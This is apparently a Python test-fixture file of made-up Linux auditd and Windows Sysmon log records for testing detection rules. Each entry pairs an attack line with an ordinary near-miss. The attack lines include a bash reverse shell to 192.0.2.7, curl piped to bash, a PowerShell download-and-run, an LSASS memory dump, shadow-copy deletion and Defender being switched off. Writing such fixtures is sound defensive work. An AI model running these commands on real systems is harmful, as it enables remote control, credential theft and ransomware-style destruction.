"""Made-up records for the shipped rules: for each what it describes, and something near that is ordinary work."""

import json
from dataclasses import dataclass
from typing import Any

from tests.intake.windows_samples import nxlog


@dataclass(frozen=True, slots=True)
class Sample:
    """Lines of a log a rule must fire on, and lines it must not."""

    title: str
    attack: tuple[str, ...]
    near_miss: tuple[str, ...]


def audit(kind: str, serial: int, text: str, second: int = 0) -> str:
    return f"node=h1 type={kind} msg=audit({1_700_000_000 + second}.{serial % 1000:03}:{serial}): {text}"


def _argument(text: str) -> str:
    plain = text.isascii() and not set(text) & set(' "')
    return f'"{text}"' if plain else text.encode().hex().upper()


def launch(
    serial: int, exe: str, *argv: str, pid: int = 500, ppid: int = 400, user: str = "root", second: int = 0
) -> tuple[str, ...]:
    """An execve as auditd writes it."""
    name = exe.rpartition("/")[2]
    ids = " ".join(f"{key}=0" for key in ("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"))
    words = " ".join(f"a{n}={_argument(word)}" for n, word in enumerate(argv))
    call = (
        f"arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid={ppid} pid={pid} auid=1000"
        f' {ids} tty=pts0 ses=3 comm="{name}" exe="{exe}" key="exec"'
        f'\x1dARCH=x86_64 SYSCALL=execve AUID="ann" UID="{user}" GID="root" EUID="{user}"'
    )
    return (
        audit("SYSCALL", serial, call, second),
        audit("EXECVE", serial, f"argc={len(argv)} {words}", second),
        audit("CWD", serial, 'cwd="/root"', second),
        audit("PATH", serial, f'item=0 name="{exe}" inode=7 dev=08:01 mode=0100755 nametype=NORMAL', second),
    )


def written(serial: int, exe: str, path: str) -> tuple[str, ...]:
    """A file that a program makes, as a file watch shows it."""
    folder = path.rpartition("/")[0] + "/"
    name = exe.rpartition("/")[2]
    call = (
        "arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=1 a2=241 a3=1b6 items=2 ppid=400 pid=500 auid=1000"
        f' uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="{name}" exe="{exe}" key="etc"'
        '\x1dARCH=x86_64 SYSCALL=openat AUID="ann" UID="root" GID="root"'
    )
    return (
        audit("SYSCALL", serial, call),
        audit("CWD", serial, 'cwd="/root"'),
        audit("PATH", serial, f'item=0 name="{folder}" inode=5 dev=08:01 mode=040755 nametype=PARENT'),
        audit("PATH", serial, f'item=1 name="{path}" inode=6 dev=08:01 mode=0100644 nametype=CREATE'),
    )


def renamed(serial: int, exe: str, old: str, new: str) -> tuple[str, ...]:
    name = exe.rpartition("/")[2]
    call = (
        "arch=c000003e syscall=82 success=yes exit=0 a0=1 a1=2 a2=0 a3=0 items=4 ppid=400 pid=500 auid=1000 uid=0 gid=0"
        f' euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="{name}" exe="{exe}" key="srv"'
        '\x1dARCH=x86_64 SYSCALL=rename AUID="ann" UID="root" GID="root"'
    )
    paths = (("/srv/", "PARENT"), ("/srv/", "PARENT"), (old, "DELETE"), (new, "CREATE"))
    return (
        audit("SYSCALL", serial, call),
        audit("CWD", serial, 'cwd="/srv"'),
        *(
            audit("PATH", serial, f'item={n} name="{path}" inode={n} dev=08:01 mode=0100644 nametype={kind}')
            for n, (path, kind) in enumerate(paths)
        ),
    )


def login(serial: int, outcome: str, address: str) -> str:
    text = (
        f'pid=90 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login id=1001 exe="/usr/sbin/sshd" hostname={address}'
        f' addr={address} terminal=ssh res={outcome}\'\x1dUID="root" AUID="unset"'
    )
    return audit("USER_LOGIN", serial, text, serial)


def _cron(*argv: str) -> tuple[str, ...]:
    daemon = launch(1, "/usr/sbin/cron", "/usr/sbin/cron", "-f", pid=300, ppid=1)
    return daemon + launch(2, "/usr/bin/dash", *argv, pid=301, ppid=300)


def _piped(second: int) -> tuple[str, ...]:
    shell = launch(1, "/usr/bin/bash", "bash", "--login", pid=400, ppid=1)
    fetched = launch(2, "/usr/bin/curl", "curl", "-fsSL", "http://192.0.2.7/i.sh", pid=500, second=1)
    return shell + fetched + launch(3, "/usr/bin/dash", "sh", pid=501, second=second)


def _encrypted(suffix: str) -> tuple[str, ...]:
    lines = [renamed(n, "/usr/bin/python3", f"/srv/a{n}.docx", f"/srv/a{n}.docx{suffix}") for n in range(1, 26)]
    return tuple(line for one in lines for line in one)


def _guesses(count: int, then: str) -> tuple[str, ...]:
    failed = tuple(login(n, "failed", "192.0.2.9") for n in range(1, count + 1))
    return (*failed, login(count + 1, "success", then))


LINUX = (
    Sample(
        "Reverse Shell in a Command Line",
        launch(1, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.7/443 0>&1"),
        launch(1, "/usr/bin/nc.openbsd", "nc", "-zv", "192.0.2.7", "443"),
    ),
    Sample(
        "Program Run from an Anonymous Memory File",
        launch(1, "/memfd:x (deleted)", "kworker"),
        launch(1, "/usr/bin/memfd-tool", "memfd-tool", "list"),
    ),
    Sample(
        "Cron Job Fetches or Hides What It Runs",
        _cron("/bin/sh", "-c", "curl -s http://192.0.2.7/a | bash"),
        _cron("/bin/sh", "-c", "curl -s http://192.0.2.7/a >> /tmp/fetch.log 2>&1"),
    ),
    Sample(
        "Library Loaded into Every Program",
        written(1, "/usr/bin/bash", "/etc/ld.so.preload"),
        written(1, "/usr/bin/bash", "/etc/ld.so.conf"),
    ),
    Sample(
        "Auditing Switched Off",
        launch(1, "/usr/sbin/auditctl", "auditctl", "-e", "0"),
        launch(1, "/usr/sbin/auditctl", "auditctl", "-l"),
    ),
    Sample(
        "Program Given Its Owner's Rights",
        launch(1, "/usr/bin/chmod", "chmod", "u+s", "/usr/local/bin/helper"),
        launch(1, "/usr/bin/chmod", "chmod", "g+s", "/srv/share"),
    ),
    Sample(
        "Sudo Rules Changed Without visudo",
        written(1, "/usr/bin/tee", "/etc/sudoers.d/ann"),
        written(1, "/usr/sbin/visudo", "/etc/sudoers.d/ann"),
    ),
    Sample("Download Piped to a Shell", _piped(2), _piped(60)),
    Sample("Many Files Renamed as Ransomware Does", _encrypted(".locked"), _encrypted(".bak")),
    Sample("Password Guessed (Linux)", _guesses(6, "192.0.2.9"), _guesses(6, "192.0.2.1")),
)

SYSTEM = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
RUN = "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"


def line(**fields: Any) -> tuple[str, ...]:
    return (json.dumps(nxlog(**fields)),)


def started(image: str, command: str, parent: str = "C:\\Windows\\explorer.exe", **more: str) -> tuple[str, ...]:
    name = image.rpartition("\\")[2]
    return line(**{"Image": image, "CommandLine": command, "ParentImage": parent, "OriginalFileName": name, **more})


def other(channel: str, source: str, code: int, **fields: Any) -> tuple[str, ...]:
    record = {
        "EventTime": "2024-03-01 06:00:00",
        "@timestamp": "2024-03-01T10:00:03.500Z",
        "Hostname": "WS1.lab.example",
        "EventID": code,
        "SourceName": source,
        "Channel": channel,
        **fields,
    }
    return (json.dumps(record),)


def opened(image: str, rights: str, trace: str) -> tuple[str, ...]:
    fields = {"SourceImage": image, "TargetImage": SYSTEM + "lsass.exe", "GrantedAccess": rights, "CallTrace": trace}
    return other("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 10, **fields)


def autostart(command: str) -> tuple[str, ...]:
    fields = {"EventType": "SetValue", "TargetObject": RUN, "Details": command, "Image": SYSTEM + "reg.exe"}
    return other("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 13, **fields)


def service(path: str) -> tuple[str, ...]:
    return other("System", "Service Control Manager", 7045, ServiceName="s", ImagePath=path, StartType="demand start")


def logons(failed: int, then: str) -> tuple[str, ...]:
    def logon(code: int, address: str, second: int) -> tuple[str, ...]:
        times = {"EventTime": f"2024-03-01 06:00:{second:02}", "@timestamp": f"2024-03-01T10:00:{second:02}.000Z"}
        who = {"TargetUserName": "ann", "TargetDomainName": "LAB", "LogonType": "3", "IpAddress": address}
        return other("Security", "Microsoft-Windows-Security-Auditing", code, **times, **who)

    tries = [one for n in range(failed) for one in logon(4625, "192.0.2.9", n)]
    return (*tries, *logon(4624, then, failed + 1))


WINDOWS = (
    Sample(
        "Memory of LSASS Opened for Reading",
        opened("C:\\Users\\ann\\m.exe", "0x1010", "C:\\Windows\\SYSTEM32\\ntdll.dll+9|UNKNOWN(0001)"),
        opened(SYSTEM + "svchost.exe", "0x1000", "C:\\Windows\\SYSTEM32\\ntdll.dll+9"),
    ),
    Sample(
        "Dump of LSASS Asked For on a Command Line",
        started(
            SYSTEM + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\a.dmp full"
        ),
        started("C:\\tools\\procdump.exe", "procdump.exe -ma notepad.exe C:\\notepad.dmp"),
    ),
    Sample(
        "PowerShell with an Encoded Command",
        started(POWERSHELL, f"powershell.exe -NoP -W Hidden -enc {ENCODED}"),
        started(POWERSHELL, "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\nightly.ps1 -Encoding utf8"),
    ),
    Sample(
        "PowerShell Fetches and Runs Code",
        started(POWERSHELL, "powershell IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"),
        started(POWERSHELL, "powershell Invoke-WebRequest https://example.org/list.csv -OutFile list.csv"),
    ),
    Sample(
        "Security Log Cleared",
        other("Security", "Microsoft-Windows-Eventlog", 1102, SubjectUserName="ann"),
        other("Security", "Microsoft-Windows-Eventlog", 1100),
    ),
    Sample(
        "Event Log Cleared or Switched Off by a Command",
        started(SYSTEM + "wevtutil.exe", "wevtutil.exe cl Security"),
        started(SYSTEM + "wevtutil.exe", "wevtutil.exe qe Security /c:5 /f:text"),
    ),
    Sample(
        "Service Installed That Runs a Shell or from a Writable Folder",
        service("%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1"),
        service('"C:\\Program Files\\Vendor\\agent.exe" --service'),
    ),
    Sample(
        "Scheduled Task Made That Runs a Script or from a User's Folder",
        started(SYSTEM + "schtasks.exe", "schtasks /create /sc minute /tn Up /tr C:\\Users\\Public\\up.exe"),
        started(
            SYSTEM + "schtasks.exe", 'schtasks /create /sc daily /tn Backup /tr "C:\\Program Files\\B\\backup.exe"'
        ),
    ),
    Sample(
        "Backups or Recovery Made Impossible",
        started(SYSTEM + "vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet"),
        started(SYSTEM + "vssadmin.exe", "vssadmin.exe List Shadows"),
    ),
    Sample(
        "Download by certutil or bitsadmin",
        started(SYSTEM + "certutil.exe", "certutil.exe -urlcache -split -f http://192.0.2.7/a.exe a.exe"),
        started(SYSTEM + "certutil.exe", "certutil.exe -hashfile setup.msi SHA256"),
    ),
    Sample(
        "Rundll32 Runs Script, Nothing, or a Library from a Writable Folder",
        started(SYSTEM + "rundll32.exe", "rundll32.exe C:\\Users\\ann\\AppData\\Local\\Temp\\a.dat,#1"),
        started(SYSTEM + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
    ),
    Sample(
        "Remote Script Run by mshta, regsvr32 or wmic",
        started(SYSTEM + "regsvr32.exe", "regsvr32.exe /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll"),
        started(SYSTEM + "regsvr32.exe", 'regsvr32.exe /s "C:\\Program Files\\Vendor\\control.ocx"'),
    ),
    Sample(
        "Microsoft Defender Weakened by a Command",
        started(POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        started(POWERSHELL, "powershell Set-MpPreference -ScanScheduleDay 0"),
    ),
    Sample(
        "Autostart Entry That Runs Script or from a Writable Folder",
        autostart("C:\\Users\\Public\\up.exe"),
        autostart('"C:\\Program Files\\Vendor\\tray.exe" /min'),
    ),
    Sample(
        "Shell Started Through WMI",
        started(SYSTEM + "cmd.exe", "cmd.exe /c whoami", SYSTEM + "wbem\\WmiPrvSE.exe"),
        started(SYSTEM + "cmd.exe", "cmd.exe /c whoami", SYSTEM + "svchost.exe"),
    ),
    Sample(
        "Office Program Starts a Shell or Interpreter",
        started(SYSTEM + "cmd.exe", "cmd.exe /c whoami", "C:\\Program Files\\Microsoft Office\\WINWORD.EXE"),
        started(SYSTEM + "splwow64.exe", "splwow64.exe 12288", "C:\\Program Files\\Microsoft Office\\WINWORD.EXE"),
    ),
    Sample("Password Guessed (Windows)", logons(12, "192.0.2.9"), logons(12, "192.0.2.1")),
)
